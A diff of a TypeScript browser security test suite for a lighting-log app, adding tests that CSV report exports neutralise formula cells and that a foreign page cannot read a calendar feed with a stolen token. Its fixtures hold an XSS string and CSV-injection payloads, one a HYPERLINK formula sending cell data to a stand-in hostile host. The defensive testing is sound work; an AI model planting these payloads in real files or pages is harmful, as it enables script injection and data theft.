@@ -1,15 +1,23 @@
 // The page on a network and what other pages in the same browser try, in Chromium: a name that is made to point here, a
-// foreign page and one on another port of this machine that send orders, and scripts in the words of people.
+// foreign page and one on another port of this machine that send orders, scripts and formulas in the words of people, and a
+// stolen access token.
 
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { type Browser, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, it, vi } from 'vitest';
+import { Desk } from '../../host/accounts/desk';
+import { accountsFileOf, openAccounts } from '../../host/accounts/store';
+import type { TokenRequest } from '../../host/api/tokens';
+import { systemClock } from '../../host/clock';
+import { openKeys, secretFileOf } from '../../host/keys';
+import { openLogbook } from '../../host/logbook/engines/open';
+import { Rehearsal } from '../../host/rehearse/rehearsal';
 import { type Served, serve } from '../../host/serve/serve';
-import { loadSite } from '../../host/site/load';
 import { CHROMIUM, expectSound, FLAGS, visit, WIDTHS } from './support/browser';
 import { buildLodge } from './support/lodge';
 
@@ -17,7 +25,13 @@ const PASSWORD = 'five llamas hum at dusk';
 const EVIL = 'hostile.example.org';
 const SCRIPT = '<img src=x onerror=alert(1)>';
 
+/** Where the luminaires are, as somebody with bad intentions would enter it. */
+const PLACES = [SCRIPT, '=HYPERLINK("https://hostile.example.org/"&A1)', '＝1+1', '@SUM(A1:A9)'];
+/** Long enough for the first function tests. */
+const DAYS = 35;
+
 let folder: string;
+let db: string;
 let host: Served;
 let browser: Browser;
 let foreign: Server;
@@ -26,21 +40,27 @@ let port: string;
 
 beforeAll(async () => {
   folder = mkdtempSync(join(tmpdir(), 'nightproof-hostile-'));
-  const { file } = buildLodge(folder, 1, 60, 600, (text) => text.replace('Corridor 1,', `"${SCRIPT}",`));
-  const loaded = loadSite(file);
-  if ('mistakes' in loaded) throw new Error(loaded.mistakes.map((one) => one.message).join('\n'));
+  const hostile = (text: string) =>
+    PLACES.reduce((so, place, i) => so.replace(`Corridor ${i + 1},`, `${JSON.stringify(place)},`), text);
+  const { file, site } = buildLodge(folder, 1, 60, 600, hostile);
+  db = join(folder, 'log.db');
+  const keys = openKeys(secretFileOf(db));
+  const logbook = await openLogbook(db);
+  const rehearsal = await Rehearsal.start({ site, seed: 5, days: DAYS, keys, logbook });
+  await rehearsal.runDays(DAYS);
+  await logbook.close();
   const told = vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
     said += String(text);
     return true;
   });
   const places = {
-    db: join(folder, 'log.db'),
+    ...{ db, keys },
     port: 0,
     brokerPort: 0,
     host: '0.0.0.0',
     names: ['lights.local'],
   };
-  host = await serve({ site: loaded.site, siteFile: file, ...places });
+  host = await serve({ site, siteFile: file, ...places });
   told.mockRestore();
   ({ port } = new URL(host.url));
   foreign = createServer((_, answer) =>
@@ -156,5 +176,63 @@ it.each([
   }, target);
   await page.getByText(/Sign in first\.|An order must/).waitFor();
   expect(await entries()).toBe(before);
+  await page.context().close();
+});
+
+it('gives a table in which no cell is a formula, whatever people have entered', async () => {
+  const page = await signedIn();
+  await page.goto(`${host.url}/#/reports`);
+  const form = page.getByRole('form', { name: 'Report' });
+  await form.getByLabel('First day').fill('2026-01-01');
+  await form.getByLabel('Last day').fill('2026-03-01');
+  const download = page.waitForEvent('download');
+  await form.getByRole('button', { name: 'Make the table' }).click();
+  const text = readFileSync(await (await download).path(), 'utf8');
+  const [head, ...rows]: string[][] = parse(text, { bom: true });
+  const places = new Set(rows.map((row) => row[head.indexOf('place')]));
+  expect([...places].sort()).toEqual([SCRIPT, ...PLACES.slice(1).map((place) => `'${place}`)].sort());
+  // OWASP, CSV Injection (page of 2025): these begin a formula, the wide ones too.
+  expect(rows.flat().filter((cell) => /^\s*[=+\-@\t\r\n＝＋－＠]/u.test(cell))).toEqual([]);
+  await page.context().close();
+});
+
+it('gives a foreign page nothing for a stolen access token, and nobody once it is withdrawn', async () => {
+  const store = openAccounts(accountsFileOf(db));
+  const desk = new Desk({ store, clock: systemClock, enter: async () => {} });
+  const change = (wish: TokenRequest) => desk.tokens.change(wish, { id: '', name: 'Ada Vail' });
+  const wish = { do: 'make', name: 'Porter', scope: 'calendar', days: 1 } as const;
+  const { secret = '' } = await change(wish);
+  const page = await signedIn();
+  const atHome = await page.goto(`${host.url}/api/session`);
+  expect(atHome?.status()).toBe(200);
+  const address = `${host.url}/calendar.ics?token=${secret}`;
+  const here = (url: string) => page.evaluate(async (at) => (await fetch(at)).status, url);
+  expect(await here(address)).toBe(200);
+  await page.goto(`http://${EVIL}:${(foreign.address() as AddressInfo).port}/`);
+  const read = await page.evaluate(
+    async ([url, token]) => {
+      const tries: [string, RequestInit][] = [
+        [url, {}],
+        [url, { credentials: 'include' }],
+        [url.split('?')[0], { headers: { authorization: `Bearer ${token}` } }],
+        [url, { mode: 'no-cors' }],
+      ];
+      return Promise.all(
+        tries.map(([at, init]) =>
+          fetch(at, init).then(
+            async (answer) => `${answer.type} ${await answer.text()}`,
+            () => 'refused',
+          ),
+        ),
+      );
+    },
+    [address, secret],
+  );
+  expect(read).toEqual(['refused', 'refused', 'refused', 'refused']);
+  const [{ id }] = store.tokens();
+  await change({ do: 'withdraw', token: id });
+  store.close();
+  await page.goto(`${host.url}/api/session`);
+  expect(await here(address)).toBe(401);
   await page.context().close();
 });
